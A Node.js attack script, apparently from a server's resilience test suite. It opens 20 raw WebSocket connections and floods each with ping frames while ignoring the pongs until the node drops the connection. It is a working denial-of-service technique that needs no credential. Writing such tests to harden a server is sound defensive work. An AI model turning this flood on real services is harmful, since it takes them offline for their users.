#!/usr/bin/env node
// Upgrades, then sends pings as fast as the node takes them and reads none of
// the pongs: without a credential, and none is needed.
import {setTimeout as sleep} from 'node:timers/promises';

import {frame, opcodes, openRaw} from '../support/frames.mjs';
import {runAttack} from '../support/attack.mjs';

const CONNECTIONS = 20;

const pings = Buffer.concat(
  Array(500).fill(frame('x'.repeat(125), {opcode: opcodes.ping})));

/** Pings until the node ends the connection. */
async function pingOnce(port) {
  const socket = await openRaw(port);
  socket.pause();
  const gone = new Promise((resolve) => { socket.once('close', resolve); });
  while (!socket.destroyed)
    await Promise.race([gone,
      new Promise((resolve) => { socket.write(pings, resolve); })]);
}

await runAttack('pings whose pongs nobody reads', async ({http: port}, seconds) => {
  const end = Date.now() + 1000 * seconds;
  const attackers = Array.from({length: CONNECTIONS}, async () => {
    while (Date.now() < end)
      await pingOnce(port);
  });
  await Promise.race([Promise.all(attackers), sleep(1000 * seconds)]);
});
